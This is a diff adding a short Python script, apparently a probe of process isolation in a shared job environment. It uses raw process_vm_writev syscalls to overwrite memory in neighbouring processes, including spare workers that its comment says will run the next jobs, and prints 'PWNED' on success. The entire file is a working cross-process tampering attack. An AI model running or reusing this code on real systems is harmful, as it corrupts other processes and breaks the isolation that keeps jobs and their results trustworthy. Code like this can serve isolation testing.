@@ -1,0 +1,15 @@
+# floor: contained
+# It writes into the spares that will run the next jobs.
+import ctypes, os
+L = ctypes.CDLL(None, use_errno=True)
+L.syscall.restype = ctypes.c_long
+X86 = os.uname().machine == "x86_64"
+def call(x86, arm, *args):
+    return L.syscall(ctypes.c_long(x86 if X86 else arm), *[a if isinstance(a, bytes) or a is None else ctypes.c_long(a) for a in args])
+
+import struct
+evil = ctypes.create_string_buffer(b"x" * 8)
+vector = struct.pack("PN", ctypes.addressof(evil), 8)
+for pid in range(os.getppid() - 3, os.getpid() + 8):
+    if pid != os.getpid() and call(311, 271, pid, vector, 1, vector, 1, 0) > 0:
+        print("PWNED", pid)
